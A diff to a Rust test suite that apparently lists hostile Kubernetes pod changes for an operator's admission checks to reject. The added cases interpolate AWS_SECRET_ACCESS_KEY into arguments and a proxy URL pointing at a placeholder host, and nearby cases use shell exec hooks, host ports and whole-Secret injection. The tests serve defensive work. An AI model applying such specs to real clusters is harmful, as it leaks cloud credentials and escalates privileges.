@@ -23,6 +23,7 @@ const VOLUMES: &str = "without volumes";
 const PLACE: &str = "Jobs of one Pod";
 const RESTRICTED: &str = "that the restricted Pod Security Standard allows";
 const HOOKS: &str = "without hooks, probes and ports";
+const VARIABLES: &str = "write variables into arguments";
 const ENVIRONMENT: &str = "may give its container only the keys";
 
 /// A CronJob of somebody's own.
@@ -88,6 +89,7 @@ fn creations(scene: &Scene) -> Vec<Attack> {
     };
     let secret =
         |name: &str, key: &str| json!({"name": name, "valueFrom": {"secretKeyRef": {"name": "s", "key": key}}});
+    let config_map = |name: &str| json!({"name": name, "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}});
     let shell = json!({"name": "shell", "image": "ghcr.io/antflydb/antfly-backup-operator:0.1.0"});
     let privileged = json!([
         add("/metadata/namespace", json!("kube-system")),
@@ -173,13 +175,16 @@ fn creations(scene: &Scene) -> Vec<Attack> {
         ("a hook", container("lifecycle", json!({"preStop": {"exec": {"command": ["sh"]}}})), HOOKS),
         ("a probe", container("livenessProbe", json!({"exec": {"command": ["sh"]}})), HOOKS),
         ("a port of the node", container("ports", json!([{"containerPort": 80, "hostPort": 80}])), HOOKS),
+        ("a key in an argument", container("args/-", json!("--server=http://x/$(AWS_SECRET_ACCESS_KEY)")), VARIABLES),
+        ("a key after a dollar", container("args/-", json!("--table=$$$(AWS_SECRET_ACCESS_KEY)")), VARIABLES),
+        (
+            "a key in a value",
+            container("env/-", json!({"name": "HTTP_PROXY", "value": "http://x/$(AWS_SECRET_ACCESS_KEY)"})),
+            VARIABLES,
+        ),
         ("a whole Secret", container("envFrom", json!([{"secretRef": {"name": "s"}}])), ENVIRONMENT),
         ("a whole ConfigMap", container("envFrom", json!([{"configMapRef": {"name": "c"}}])), ENVIRONMENT),
-        (
-            "a key of a ConfigMap under another name",
-            container("env/-", json!({"name": "X", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "x"}}})),
-            ENVIRONMENT,
-        ),
+        ("a key of a ConfigMap", container("env/-", config_map("AWS_REGION")), ENVIRONMENT),
         ("another key of a Secret", container("env/-", secret("PASSWORD", "PASSWORD")), ENVIRONMENT),
         ("another key under a name of ours", container("env/-", secret("ANTFLY_TOKEN", "token")), ENVIRONMENT),
         ("a key of ours under another name", container("env/-", secret("TOKEN", "ANTFLY_TOKEN")), ENVIRONMENT),
